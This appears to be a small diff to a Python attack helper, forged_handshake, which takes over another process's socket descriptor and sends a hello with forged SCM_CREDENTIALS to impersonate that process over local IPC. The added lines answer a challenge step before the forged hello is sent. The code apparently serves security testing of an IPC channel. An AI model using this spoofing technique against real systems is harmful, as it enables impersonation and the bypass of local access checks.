@@ -333,6 +333,8 @@ def forged_handshake(pid: int) -> bytes:
     try:
         with socket.socket(fileno=attacks.steal(pid, PLATFORM_FD)) as end:
             end.settimeout(0.5)
+            end.send(channel.READY)
+            end.recv(channel.CHALLENGE_SIZE)
             credentials = struct.pack("iII", pid, 0, 0)
             end.sendmsg([offer.hello], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, credentials)])
             answer = end.recv(channel.MAX_FRAME)
